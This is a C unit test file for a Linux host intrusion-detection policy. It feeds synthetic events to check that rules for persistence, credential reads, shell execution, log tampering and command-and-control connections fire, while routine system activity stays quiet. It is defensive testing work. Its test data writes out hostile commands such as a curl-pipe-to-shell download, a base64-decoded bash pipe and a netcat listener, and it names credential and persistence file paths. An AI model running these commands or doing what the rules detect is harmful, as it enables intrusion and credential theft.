// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * The shipped default policy against synthetic events: every detection fires
 * on the event a real attack makes, and the everyday events next to it
 * (package managers, PAM helpers, editors rewriting history, logrotate) stay
 * quiet.  Finds policies/default.yaml from $SG_SRCDIR, the working directory
 * or the test binary's location (BUILD/tests/../..).
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
#include <cmocka.h>
#include "policy.h"
#include "proctable.h"

static struct policy *pol;

/*
 * The process tree: systemd(1) -> sshd(100) -> bash(200)
 *   -> nginx(300) -> php-fpm(310); python3.11(400) (comm networkd-dispat: 410)
 *   -> cron(500) -> run-parts(510); apt(600) -> dpkg(610)
 */
static struct proc_entry procs[] = {
	{ .pid = 1, .ppid = 0, .exe = "/usr/lib/systemd/systemd", .comm = "systemd" },
	{ .pid = 100, .ppid = 1, .exe = "/usr/sbin/sshd", .comm = "sshd" },
	{ .pid = 200, .ppid = 100, .exe = "/usr/bin/bash", .comm = "bash" },
	{ .pid = 300, .ppid = 1, .exe = "/usr/sbin/nginx", .comm = "nginx" },
	{ .pid = 310, .ppid = 300, .exe = "/usr/sbin/php-fpm8.2", .comm = "php-fpm8.2" },
	{ .pid = 400, .ppid = 200, .exe = "/usr/bin/python3.11", .comm = "python3" },
	{ .pid = 410, .ppid = 1, .exe = "/usr/bin/python3.11", .comm = "networkd-dispat" },
	{ .pid = 500, .ppid = 1, .exe = "/usr/sbin/cron", .comm = "cron" },
	{ .pid = 510, .ppid = 500, .exe = "/usr/bin/run-parts", .comm = "run-parts" },
	{ .pid = 600, .ppid = 200, .exe = "/usr/bin/apt", .comm = "apt" },
	{ .pid = 610, .ppid = 600, .exe = "/usr/bin/dpkg", .comm = "dpkg" },
};

static const struct proc_entry *t_get(void *arg, uint32_t pid)
{
	for (size_t i = 0; i < sizeof(procs) / sizeof(procs[0]); i++)
		if (procs[i].pid == pid)
			return &procs[i];
	return NULL;
}

static const struct proc_entry *t_parent(void *arg, const struct proc_entry *e)
{
	return t_get(arg, e->ppid);
}

static const struct policy_lineage lineage = { .get = t_get, .parent = t_parent };

/* A process with this exe and comm, child of ppid. */
static struct sg_event ev_new(int type, uint32_t ppid, const char *exe, const char *comm)
{
	struct sg_event ev;

	memset(&ev, 0, sizeof(ev));
	ev.type = type;
	ev.proc.pid = 9999;
	ev.proc.ppid = ppid;
	ev.proc.uid = 1000;
	ev.proc.exe = exe;
	snprintf(ev.proc.comm, sizeof(ev.proc.comm), "%s", comm);
	ev.has_result = true;
	return ev;
}

static struct sg_event ev_file(int type, uint32_t ppid, const char *exe, const char *path,
			       uint32_t flags)
{
	struct sg_event ev = ev_new(type, ppid, exe, strrchr(exe, '/') + 1);

	ev.file.path = path;
	ev.file.path_resolved = true;
	ev.file.flags = flags;
	ev.file.write = (flags & (O_WRONLY | O_RDWR | O_CREAT | O_TRUNC)) != 0;
	return ev;
}

static struct sg_event ev_exec(uint32_t ppid, const char *exe, const char *argv, size_t len)
{
	struct sg_event ev = ev_new(SG_EV_EXEC, ppid, exe, strrchr(exe, '/') + 1);

	ev.exec.filename = exe;
	ev.exec.argv = argv;
	ev.exec.argv_len = len;
	return ev;
}

static struct sg_event ev_conn(uint32_t ppid, const char *exe, const char *comm, int family,
			       const char *addr, uint16_t port)
{
	struct sg_event ev = ev_new(SG_EV_CONNECT, ppid, exe, comm);

	ev.net.family = family;
	if (family != AF_UNIX)
		inet_pton(family, addr, ev.net.addr);
	else
		ev.net.unix_path = addr;
	ev.net.port = port;
	ev.net.protocol = IPPROTO_TCP;
	ev.net.sock_type = SOCK_STREAM;
	return ev;
}

#define W (O_WRONLY | O_CREAT | O_TRUNC)
#define A(s) s, sizeof(s)

static void expect(struct sg_event ev, const char *rule, enum sg_action action, int line)
{
	policy_eval_lineage(pol, &ev, &lineage);
	if (ev.verdict.action != action ||
	    strcmp(ev.verdict.rule_id ? ev.verdict.rule_id : "-", rule) != 0)
		fail_msg("line %d: expected %s/%s, got %s/%s", line, rule, sg_action_name(action),
			 ev.verdict.rule_id ? ev.verdict.rule_id : "-",
			 sg_action_name(ev.verdict.action));
}

/* rule decides and also, another rule that holds, is among the matches */
static void expect_also(struct sg_event ev, const char *rule, const char *also, int line)
{
	expect(ev, rule, SG_ACT_ALERT, line);
	policy_eval_lineage(pol, &ev, &lineage);
	for (size_t i = 0; i < ev.verdict.nmatches; i++)
		if (strcmp(ev.verdict.matches[i].rule_id, also) == 0)
			return;
	fail_msg("line %d: %s is not among the %u other matches", line, also,
		 ev.verdict.nmatches);
}

#define ALERT(ev, rule) expect(ev, rule, SG_ACT_ALERT, __LINE__)
#define ALERT_ALSO(ev, rule, also) expect_also(ev, rule, also, __LINE__)
#define QUIET(ev) expect(ev, "-", SG_ACT_ALLOW, __LINE__)
#define LOGGED(ev, rule) expect(ev, rule, SG_ACT_LOG, __LINE__)

static int load_default(void **state)
{
	char path[4200], exe[4096];
	const char *src = getenv("SG_SRCDIR");
	struct policy_diag d;
	ssize_t n;

	if (src)
		snprintf(path, sizeof(path), "%s/policies/default.yaml", src);
	else
		snprintf(path, sizeof(path), "policies/default.yaml");
	if (access(path, R_OK) != 0) {
		n = readlink("/proc/self/exe", exe, sizeof(exe) - 1);
		if (n < 0)
			return -1;
		exe[n] = '\0';
		*strrchr(exe, '/') = '\0';
		snprintf(path, sizeof(path), "%s/../../policies/default.yaml", exe);
	}
	policy_diag_init(&d);
	if (policy_load(path, &pol, &d) < 0) {
		policy_diag_print(&d, stderr);
		return -1;
	}
	policy_diag_fini(&d);
	return 0;
}

static int free_default(void **state)
{
	policy_free(pol);
	return 0;
}

static void test_persistence(void **state)
{
	struct sg_event ev;

	ALERT(ev_file(SG_EV_OPEN, 200, "/usr/bin/bash", "/etc/cron.d/evil", W), "persistence-cron");
	ev = ev_file(SG_EV_RENAME, 200, "/usr/bin/mv", "/tmp/x", 0);
	ev.file.new_path = "/var/spool/cron/crontabs/root";
	ALERT(ev, "persistence-cron");
	ev.proc.exe = "/usr/bin/crontab";
	QUIET(ev);
	QUIET(ev_file(SG_EV_OPEN, 610, "/usr/bin/dpkg", "/etc/cron.d/sysstat", W));
	QUIET(ev_file(SG_EV_OPEN, 200, "/usr/bin/cat", "/etc/crontab", O_RDONLY));
	ALERT(ev_file(SG_EV_OPEN, 200, "/usr/bin/tee", "/etc/systemd/system/x.service", W),
	      "persistence-systemd-unit");
	ALERT(ev_file(SG_EV_OPEN, 200, "/usr/bin/vim.basic",
		      "/home/u/.config/systemd/user/x.service", W), "persistence-systemd-unit");
	QUIET(ev_file(SG_EV_OPEN, 610, "/usr/bin/dpkg", "/usr/lib/systemd/system/x.service", W));
	ALERT(ev_file(SG_EV_OPEN, 200, "/usr/bin/bash", "/home/u/.bashrc", O_WRONLY | O_APPEND),
	      "persistence-shell-rc");
	ALERT(ev_file(SG_EV_OPEN, 200, "/usr/bin/cp", "/etc/profile.d/x.sh", W),
	      "persistence-shell-rc");
	QUIET(ev_file(SG_EV_OPEN, 200, "/usr/bin/bash", "/home/u/.bashrc", O_RDONLY));
	ev = ev_file(SG_EV_OPEN, 200, "/usr/bin/bash", "/etc/ld.so.preload", W);
	ALERT(ev, "persistence-ld-preload");
	policy_eval_lineage(pol, &ev, &lineage);
	assert_int_equal(ev.verdict.severity, SG_SEV_CRITICAL);
	ALERT(ev_file(SG_EV_OPEN, 200, "/usr/bin/bash", "/root/.ssh/authorized_keys",
		      O_WRONLY | O_APPEND), "persistence-authorized-keys");
	ALERT(ev_file(SG_EV_OPEN, 200, "/usr/bin/bash", "/etc/rc.local", W), "persistence-rc-local");
	ALERT(ev_file(SG_EV_OPEN, 400, "/usr/bin/python3.11", "/etc/passwd", O_WRONLY | O_APPEND),
	      "persistence-accounts");
	ALERT(ev_file(SG_EV_OPEN, 200, "/usr/bin/tee", "/etc/sudoers.d/99-evil", W),
	      "persistence-accounts");
	ev = ev_file(SG_EV_RENAME, 200, "/usr/sbin/useradd", "/etc/passwd+", 0);
	ev.file.new_path = "/etc/passwd";
	QUIET(ev);
	QUIET(ev_file(SG_EV_OPEN, 200, "/usr/bin/passwd", "/etc/nshadow", W));
}

static void test_credentials(void **state)
{
	ALERT(ev_file(SG_EV_OPEN, 200, "/usr/bin/cat", "/etc/shadow", O_RDONLY), "cred-shadow-read");
	ALERT(ev_file(SG_EV_OPEN, 200, "/usr/bin/cat", "/etc/gshadow", O_RDONLY), "cred-shadow-read");
	QUIET(ev_file(SG_EV_OPEN, 100, "/usr/sbin/unix_chkpwd", "/etc/shadow", O_RDONLY));
	QUIET(ev_file(SG_EV_OPEN, 1, "/usr/sbin/sshd", "/etc/shadow", O_RDONLY));
	QUIET(ev_file(SG_EV_OPEN, 510, "/usr/bin/cp", "/etc/shadow", O_RDONLY));
	QUIET(ev_file(SG_EV_OPEN, 200, "/usr/bin/cat", "/etc/passwd", O_RDONLY));
	ALERT(ev_file(SG_EV_OPEN, 200, "/usr/bin/cat", "/home/u/.ssh/id_ed25519", O_RDONLY),
	      "cred-ssh-private-key");
	ALERT(ev_file(SG_EV_OPEN, 200, "/usr/bin/cp", "/etc/ssh/ssh_host_rsa_key", O_RDONLY),
	      "cred-ssh-private-key");
	QUIET(ev_file(SG_EV_OPEN, 200, "/usr/bin/ssh", "/home/u/.ssh/id_ed25519", O_RDONLY));
	QUIET(ev_file(SG_EV_OPEN, 200, "/usr/bin/cat", "/home/u/.ssh/id_ed25519.pub", O_RDONLY));
	QUIET(ev_file(SG_EV_OPEN, 1, "/usr/sbin/sshd", "/etc/ssh/ssh_host_rsa_key", O_RDONLY));
	ALERT(ev_file(SG_EV_OPEN, 200, "/usr/bin/curl", "/home/u/.aws/credentials", O_RDONLY),
	      "cred-cloud");
	ALERT(ev_file(SG_EV_OPEN, 200, "/usr/bin/tar", "/home/u/.kube/config", O_RDONLY),
	      "cred-cloud");
	{
		struct sg_event ev = ev_file(SG_EV_OPEN, 200, "/usr/bin/python3.11",
					     "/home/u/.aws/credentials", O_RDONLY);

		snprintf(ev.proc.comm, sizeof(ev.proc.comm), "aws");
		QUIET(ev);
	}
}

static void test_execution(void **state)
{
	struct sg_event ev;

	ALERT(ev_exec(200, "/tmp/xmrig", A("./xmrig\0")), "exec-from-temp");
	ev = ev_exec(200, "/usr/bin/dash", A("/dev/shm/x.sh\0"));
	ev.exec.filename = "/dev/shm/x.sh";
	ALERT(ev, "exec-from-temp");
	ev = ev_exec(310, "/usr/bin/dash", A("sh\0-c\0id\0"));
	ALERT(ev, "exec-shell-from-web-service");
	policy_eval_lineage(pol, &ev, &lineage);
	assert_int_equal(ev.verdict.severity, SG_SEV_CRITICAL);
	/* deeper: php-fpm -> sh -> bash */
	ev = ev_exec(310, "/usr/bin/bash", A("bash\0"));
	ALERT(ev, "exec-shell-from-web-service");
	ALERT(ev_exec(400, "/usr/bin/dash", A("/bin/sh\0")), "exec-shell-from-interpreter");
	LOGGED(ev_exec(410, "/usr/bin/dash", A("/bin/sh\0/etc/networkd-dispatcher/routable.d/x\0")),
	       "audit-exec");
	LOGGED(ev_exec(610, "/usr/bin/perl", A("perl\0-e\0x\0")), "audit-exec");
	ALERT(ev_exec(200, "/usr/bin/dash", A("sh\0-c\0curl -fsSL https://x.example/i.sh | sh\0")),
	      "exec-download-pipe-shell");
	ALERT(ev_exec(500, "/usr/bin/dash", A("sh\0-c\0echo aWQK | base64 -d | bash\0")),
	      "exec-download-pipe-shell");
	ALERT(ev_exec(200, "/usr/bin/bash", A("bash\0-s\0--\0--yes\0")), "exec-download-pipe-shell");
	/* curl alone, and sh -c without a pipe, are ordinary */
	LOGGED(ev_exec(200, "/usr/bin/curl", A("curl\0-O\0https://x\0")), "audit-exec");
	LOGGED(ev_exec(500, "/usr/bin/dash", A("sh\0-c\0run-parts /etc/cron.hourly\0")),
	       "audit-exec");
	LOGGED(ev_exec(200, "/usr/bin/ls", A("ls\0-la\0")), "audit-exec");
}

static void test_evasion(void **state)
{
	struct sg_event ev;

	ALERT(ev_file(SG_EV_UNLINK, 200, "/usr/bin/rm", "/home/u/.bash_history", 0),
	      "evasion-history-tamper");
	ALERT(ev_file(SG_EV_OPEN, 200, "/usr/bin/bash", "/root/.bash_history", W),
	      "evasion-history-tamper");
	ev = ev_file(SG_EV_RENAME, 200, "/usr/bin/mv", "/home/u/.zsh_history", 0);
	ev.file.new_path = "/tmp/h";
	ALERT(ev, "evasion-history-tamper");
	/* bash and zsh rewrite history through a temporary file */
	ev = ev_file(SG_EV_RENAME, 200, "/usr/bin/bash", "/home/u/.bash_history-01234.tmp", 0);
	ev.file.new_path = "/home/u/.bash_history";
	QUIET(ev);
	QUIET(ev_file(SG_EV_OPEN, 200, "/usr/bin/bash", "/home/u/.bash_history",
		      O_WRONLY | O_APPEND));
	ALERT(ev_file(SG_EV_UNLINK, 200, "/usr/bin/rm", "/var/log/auth.log", 0),
	      "evasion-log-tamper");
	ALERT(ev_file(SG_EV_OPEN, 200, "/usr/bin/bash", "/var/log/wtmp", W), "evasion-log-tamper");
	QUIET(ev_file(SG_EV_UNLINK, 1, "/usr/sbin/logrotate", "/var/log/syslog.7.gz", 0));
	QUIET(ev_file(SG_EV_OPEN, 1, "/usr/sbin/rsyslogd", "/var/log/syslog", O_WRONLY | O_APPEND));
	QUIET(ev_file(SG_EV_OPEN, 600, "/usr/bin/apt", "/var/log/apt/eipp.log.xz", W));
	ALERT(ev_exec(200, "/usr/bin/chmod", A("chmod\0u+s\0/tmp/sh\0")), "evasion-setuid");
	ALERT(ev_exec(200, "/usr/bin/chmod", A("chmod\0" "4755\0/tmp/sh\0")), "evasion-setuid");
	LOGGED(ev_exec(200, "/usr/bin/chmod", A("chmod\0" "755\0/tmp/sh\0")), "audit-exec");
	LOGGED(ev_exec(200, "/usr/bin/chmod", A("chmod\0u+x\0/tmp/sh\0")), "audit-exec");
	ALERT(ev_exec(200, "/usr/sbin/setcap", A("setcap\0cap_setuid+ep\0/tmp/py\0")),
	      "evasion-setcap");
	/* runc and crun load a cgroup device program for every container they start */
	ev = ev_new(SG_EV_BPF, 1, "/usr/sbin/runc", "runc");
	ev.bpf.cmd = 5; /* BPF_PROG_LOAD */
	ev.bpf.prog_type = 15; /* BPF_PROG_TYPE_CGROUP_DEVICE */
	ev.bpf.prog_name = "";
	QUIET(ev);
	ev.proc.exe = "/usr/bin/crun";
	snprintf(ev.proc.comm, sizeof(ev.proc.comm), "crun");
	QUIET(ev);
	ev.bpf.prog_type = 2; /* BPF_PROG_TYPE_KPROBE: not what a runtime loads */
	ALERT(ev, "evasion-bpf-load");
	ev = ev_new(SG_EV_BPF, 200, "/tmp/x", "x");
	ev.bpf.cmd = 5;
	ev.bpf.prog_type = 15;
	ev.bpf.prog_name = "";
	ALERT(ev, "evasion-bpf-load");
}

static void test_c2(void **state)
{
	struct sg_event ev;

	ev = ev_conn(200, "/usr/bin/bash", "bash", AF_INET, "203.0.113.5", 4444);
	ALERT(ev, "c2-shell-connect");
	ALERT(ev_conn(200, "/usr/bin/dash", "sh", AF_INET6, "2001:db8::5", 443), "c2-shell-connect");
	QUIET(ev_conn(200, "/usr/bin/bash", "bash", AF_UNIX, "/run/systemd/userdb/io.systemd", 0));
	ALERT(ev_conn(200, "/usr/bin/nc.openbsd", "nc", AF_INET, "203.0.113.5", 80),
	      "c2-net-tool-connect");
	/* busybox is a shell too: the critical rule decides, the net tool rule is named */
	ALERT_ALSO(ev_conn(200, "/usr/bin/busybox", "nc", AF_INET, "203.0.113.5", 80),
		   "c2-shell-connect", "c2-net-tool-connect");
	ALERT(ev_conn(200, "/usr/bin/python3.11", "python3", AF_INET, "203.0.113.5", 4444),
	      "c2-interpreter-odd-port");
	QUIET(ev_conn(200, "/usr/bin/python3.11", "python3", AF_INET, "203.0.113.5", 443));
	QUIET(ev_conn(200, "/usr/bin/python3.11", "python3", AF_INET, "127.0.0.1", 5432));
	QUIET(ev_conn(300, "/usr/sbin/php-fpm8.2", "php-fpm8.2", AF_INET, "10.0.0.6", 3306));
	QUIET(ev_conn(200, "/usr/bin/curl", "curl", AF_INET, "203.0.113.5", 443));
	QUIET(ev_conn(200, "/usr/bin/ssh", "ssh", AF_INET, "203.0.113.5", 22));
	ALERT(ev_exec(200, "/usr/bin/nc.openbsd", A("nc\0-lvnp\0" "4444\0")), "c2-net-tool-exec");
	ALERT(ev_exec(200, "/usr/bin/nmap", A("nmap\0-sS\0" "10.0.0.0/24\0")), "c2-net-tool-exec");
	ALERT(ev_exec(200, "/usr/bin/tcpdump", A("tcpdump\0-i\0any\0")), "discovery-sniffer");
}

static void test_quiet_background(void **state)
{
	struct sg_event ev;

	ev = ev_new(SG_EV_FORK, 200, "/usr/bin/bash", "bash");
	ev.has_result = false;
	QUIET(ev);
	ev.type = SG_EV_EXIT;
	QUIET(ev);
	QUIET(ev_file(SG_EV_OPEN, 200, "/usr/bin/ls", "/etc/ld.so.cache", O_RDONLY));
	QUIET(ev_file(SG_EV_OPEN, 1, "/usr/lib/systemd/systemd-journald",
		      "/var/log/journal/x/system.journal", O_RDWR | O_CREAT));
	QUIET(ev_file(SG_EV_UNLINK, 200, "/usr/bin/rm", "/tmp/junk", 0));
	ev = ev_conn(1, "/usr/sbin/nginx", "nginx", AF_INET, "0.0.0.0", 443);
	ev.type = SG_EV_LISTEN;
	LOGGED(ev, "audit-listen");
	ev.type = SG_EV_BIND;
	QUIET(ev);
	assert_int_equal(policy_dedup_window_ns(pol), 2000000000ull);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_persistence),
		cmocka_unit_test(test_credentials),
		cmocka_unit_test(test_execution),
		cmocka_unit_test(test_evasion),
		cmocka_unit_test(test_c2),
		cmocka_unit_test(test_quiet_background),
	};

	return cmocka_run_group_tests(tests, load_default, free_default);
}
